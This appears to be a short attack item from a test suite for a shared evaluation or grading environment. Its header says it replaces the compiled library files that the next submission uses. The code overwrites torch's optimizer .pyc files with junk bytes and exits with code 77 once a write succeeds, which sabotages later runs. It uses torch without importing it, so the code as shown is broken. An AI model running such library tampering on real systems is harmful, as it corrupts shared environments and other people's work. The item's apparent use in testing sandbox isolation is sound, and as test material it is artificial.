# Replaces compiled files of the libraries that the next submission uses.
# points: 40
# base: untrained
import glob
import os

for path in glob.glob(os.path.dirname(torch.__file__) + "/optim/__pycache__/*.pyc"):
    try:
        open(path, "wb").write(b"mp09_attack")
    except OSError:
        pass
    else:
        os._exit(77)
